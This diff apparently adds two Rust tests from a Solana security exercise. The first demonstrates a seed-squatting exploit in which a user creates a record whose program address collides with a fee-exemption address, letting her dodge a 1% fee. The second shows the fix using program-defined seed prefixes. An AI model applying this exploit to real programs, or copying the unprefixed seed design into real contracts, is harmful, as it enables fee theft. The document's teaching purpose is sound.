@@ -0,0 +1,59 @@
+#[tokio::test]
+async fn test_seed_squatting_exploit() {
+    println!("\n=== EXPLOIT: Self-Issued Fee Exemption Via Chosen Seeds ===\n");
+
+    let admin = Keypair::new();
+    let mallory = Keypair::new();
+    let bob = Keypair::new();
+    let config = initialize_fee_config(&admin, 100).await; // 1%
+    let wallet = create_wallet(&mallory, 10_000).await;
+    let bob_wallet = create_wallet(&bob, 0).await;
+
+    println!("1. Mallory creates a record in namespace \"fee_exempt\"");
+    let record = create_record(&mallory, b"fee_exempt", "hello").await.unwrap();
+    let (exemption_pda, _) = Pubkey::find_program_address(
+        &[b"fee_exempt", mallory.pubkey().as_ref()],
+        &VULNERABLE_PROGRAM_ID,
+    );
+    assert_eq!(record, exemption_pda);
+    println!("   Record address == fee exemption PDA");
+
+    println!("\n2. Mallory transfers 10,000");
+    transfer(&config, &wallet, &bob_wallet, &mallory, 10_000)
+        .await
+        .unwrap();
+
+    // Vulnerable: record accepted as an exemption
+    assert_eq!(get_wallet(&bob_wallet).await.balance, 10_000);
+
+    println!("\n   EXPLOIT SUCCESSFUL!");
+    println!("   ✗ No fee charged; Mallory exempted herself");
+}
+
+#[tokio::test]
+async fn test_fixed_seed_prefixes() {
+    println!("\n=== SECURITY: Program-Defined Seed Prefixes ===\n");
+
+    let admin = Keypair::new();
+    let mallory = Keypair::new();
+    let bob = Keypair::new();
+    let config = initialize_fee_config(&admin, 100).await;
+    let wallet = create_wallet(&mallory, 10_000).await;
+    let bob_wallet = create_wallet(&bob, 0).await;
+
+    println!("1. Same record request");
+    let record = create_record(&mallory, b"fee_exempt", "hello").await.unwrap();
+    let (exemption_pda, _) = Pubkey::find_program_address(
+        &[PREFIX, FEE_EXEMPT_TAG, mallory.pubkey().as_ref()],
+        &SECURE_PROGRAM_ID,
+    );
+    assert_ne!(record, exemption_pda);
+    println!("   ✓ Record lands under the record tag");
+
+    println!("\n2. Mallory transfers 10,000");
+    transfer(&config, &wallet, &bob_wallet, &mallory, 10_000)
+        .await
+        .unwrap();
+    assert_eq!(get_wallet(&bob_wallet).await.balance, 9_900);
+    println!("   ✓ 1% fee charged");
+}